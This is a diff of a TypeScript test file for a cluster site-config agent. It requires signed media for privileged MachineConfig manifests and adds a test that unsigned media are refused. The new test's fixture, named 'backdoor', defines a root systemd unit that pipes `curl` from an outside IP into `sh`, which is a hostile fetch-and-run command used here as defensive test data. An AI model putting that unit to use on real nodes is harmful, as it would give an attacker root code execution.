@@ -10,6 +10,7 @@ import * as path from 'node:path';
 import { stringify } from 'yaml';
 import { R } from '../../../src/cluster/resources';
 import { siteConfigFor, startScenario } from '../../support/scenario';
+import { signedMedia } from '../../support/signed-media';
 
 const NS = { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'store-apps' } };
 const SETTINGS = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'pos-settings', namespace: 'store-apps' }, data: { store: '42', region: 'emea' } };
@@ -43,7 +44,8 @@ test('extra manifests: created in order, replaced and merged, the replaced one s
     const replace = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'site-replace', namespace: 'openshift-config' }, data: { new: 'y' } };
     const merge = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'site-merge', namespace: 'openshift-config', annotations: { 'lca.openshift.io/apply-type': 'merge' } }, data: { new: 'y', old: null } };
     // The ConfigMap comes before its Namespace in the file: the agent orders Namespaces first.
-    s.node.attachVolume('sdb1', 'SITE-CONFIG', {
+    // A MachineConfig grants privileges (src/siteconfig/privileged.ts): only signed media may carry it.
+    s.node.attachVolume('sdb1', 'SITE-CONFIG', signedMedia(s.node.root, {
       // A folder, as image-based install's extra-manifests/ (its .yaml/.yml/.json files by name), and a file.
       'site-config.yaml': siteConfigFor(s.sim, { extraSpec: { extraManifestFiles: ['extra-manifests/', 'manifests/mc.yaml'] } }),
       'extra-manifests/README.txt': 'not a manifest: neither read nor copied',
@@ -51,8 +53,9 @@ test('extra manifests: created in order, replaced and merged, the replaced one s
       'extra-manifests/10-store.yaml': `${stringify(APP)}---\n${stringify(SETTINGS)}---\n${stringify(NS)}---\n${stringify(FIRST)}---\n${stringify(CRD)}`,
       'extra-manifests/20-cluster.json': JSON.stringify({ apiVersion: 'v1', kind: 'List', items: [replace, merge] }),
       'manifests/mc.yaml': stringify(MC),
-    });
+    }, ['extra-manifests/10-store.yaml', 'extra-manifests/20-cluster.json', 'manifests/mc.yaml']));
     const res = await s.run(['--once'], { timeoutMs: 240_000 });
+    assert.ok(res.logs.some((l) => l.msg === "site-config warning: spec.extraManifestFiles[1]: 'manifests/mc.yaml' holds MachineConfig 50-master-store-motd, which grants privileges: the machine-config-operator writes it to the node as root"), 'the privileged object is named in the journal');
     assert.equal(res.code, 0, res.stdout.slice(-3000));
 
     assert.deepEqual(s.sim.store.get(R.configMaps, 'pos-settings', 'store-apps')?.data, SETTINGS.data);
@@ -86,6 +89,24 @@ test('extra manifests: created in order, replaced and merged, the replaced one s
     const again = await s.run(['--once'], { timeoutMs: 240_000 });
     assert.equal(again.code, 0, again.stdout.slice(-3000));
     assert.deepEqual(s.sim.api.requests.slice(before).filter((r: { method: string; path: string }) => r.method !== 'GET' && /configmaps\/(first|pos-settings|site-)|namespaces\/store-apps|machineconfigs\/50-|storeapps|customresourcedefinitions/.test(r.path)).map((r: { method: string; path: string }) => `${r.method} ${r.path}`), [], 'nothing written again');
+  } finally {
+    await s.cleanup();
+  }
+});
+
+// Issue 27: with no trusted key on the node, a stick must not add a root unit to the cluster.
+test('unsigned media carrying a MachineConfig are refused before any change, saying they need signed media', async () => {
+  const s = await startScenario();
+  try {
+    const backdoor = { ...MC, metadata: { ...MC.metadata, name: '99-master-store-helper' }, spec: { config: { ignition: { version: '3.2.0' }, systemd: { units: [{ name: 'store-helper.service', enabled: true, contents: "[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.9/x | sh'\n" }] } } } };
+    s.node.attachVolume('sdb1', 'SITE-CONFIG', { 'site-config.yaml': siteConfigFor(s.sim, { extraSpec: { extraManifestFiles: ['mc.yaml'] } }), 'mc.yaml': stringify(backdoor) });
+    const before = s.sim.api.requests.filter((r: { method: string }) => r.method !== 'GET').length;
+    const res = await s.run(['--once']);
+    assert.equal(res.code, 1, res.stdout.slice(-3000));
+    assert.ok(res.logs.some((l) => l.msg.includes("'mc.yaml' holds MachineConfig 99-master-store-helper, which grants privileges: the machine-config-operator writes it to the node as root. Objects that grant privileges need signed media")), res.stdout.slice(-3000));
+    assert.equal(s.sim.store.get(R.machineConfigs, '99-master-store-helper'), undefined);
+    assert.equal(s.sim.api.requests.filter((r: { method: string }) => r.method !== 'GET').length, before, 'nothing written to the cluster');
+    assert.deepEqual(s.node.calls('nmstatectl').filter((c) => c.args[0] === 'apply'), [], 'the network was not touched');
   } finally {
     await s.cleanup();
   }
